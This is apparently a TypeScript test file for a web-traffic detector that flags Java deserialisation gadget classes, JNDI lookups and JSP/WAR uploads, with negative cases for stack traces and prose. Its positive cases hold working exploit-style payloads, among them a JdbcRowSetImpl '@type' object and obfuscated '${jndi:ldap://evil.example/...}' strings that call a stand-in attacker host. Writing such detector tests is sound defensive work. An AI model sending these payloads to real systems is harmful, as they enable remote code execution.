// Java injection detectors added for gadget class names and JSP uploads: classes a deserialiser
// would instantiate, in any input; and stack traces, exception names, domains and prose about
// Java that must stay quiet.
import { describe, expect, it } from "vitest";
import { normalizeEvent } from "@/lib/pipeline/normalize.ts";
import { detectPayloads } from "./index.ts";

type Event = ReturnType<typeof normalizeEvent>;
const query = (value: string) =>
  normalizeEvent({ url: { original: `/p?x=${encodeURIComponent(value)}` }, http: { request: { method: "GET" } } });
const json = (value: unknown) =>
  normalizeEvent({
    url: { original: "/api" },
    http: { request: { method: "POST", body: { content: JSON.stringify(value) } } },
  });
const header = (name: string, value: string) =>
  normalizeEvent({ url: { original: "/upload" }, http: { request: { method: "PUT", headers: { [name]: value } } } });
const javaIds = (e: Event) =>
  detectPayloads(e)
    .filter((d) => d.category === "java_injection")
    .map((d) => d.id);

describe("Java injection detectors", () => {
  it.each([
    [
      "sn-java-gadget-class",
      json({ "@type": "com.sun.rowset.JdbcRowSetImpl", dataSourceName: "ldap://evil.example/x" }),
    ],
    [
      "sn-java-gadget-class",
      json({
        handler: ["org.springframework.context.support.FileSystemXmlApplicationContext", "http://evil.example/x.xml"],
      }),
    ],
    ["sn-java-gadget-class", query("java.net.URLClassLoader")],
    ["sn-java-gadget-class", json({ "org.apache.commons.collections.functors.InvokerTransformer": {} })],
    ["sn-java-gadget-class", query("ognl.OgnlContext")],
    ["sn-java-gadget-class", query("com.opensymphony.xwork2")],
    ["sn-java-gadget-class", json({ "org.apache.commons": "x" })],
    ["sn-java-jndi", query("$&lbrace;jndi:ldap://evil.example/a}")],
    ["sn-java-jndi", query("$&lbracejndi&colon;ldap://evil.example/a}")],
    ["sn-java-upload", header("x-filename", "cmd. jsp")],
    ["sn-java-upload", header("x-file-name", "app.war")],
  ])("%s fires on %#", (id, event) => {
    expect(javaIds(event)).toContain(id);
  });

  it.each([
    [
      "a stack trace",
      json({
        report:
          "Error: boom\n  at java.util.ArrayList.get(ArrayList.java:427)\n  at org.springframework.web.servlet.FrameworkServlet.service",
      }),
    ],
    ["an exception name", query("why do I get java.lang.NullPointerException here?")],
    ["prose about Java", query("Java 21 and Spring Boot are what we use")],
    ["a domain name", query("https://java.com/en/download and commons.apache.org")],
    ["a Maven coordinate in prose", query("add the dependency commons-io 2.16")],
    ["an ordinary upload", header("x-filename", "notes.java.txt")],
    ["a two-part package named alone", query("the java.io and org.hibernate docs, and ognl")],
    ["ampersands run into words", query("Tom&Jerry, R&D, AT&T&colonel, fish&chips &dollarstore")],
  ])("stays quiet on %s", (_label, event) => {
    expect(javaIds(event)).toEqual([]);
  });
});
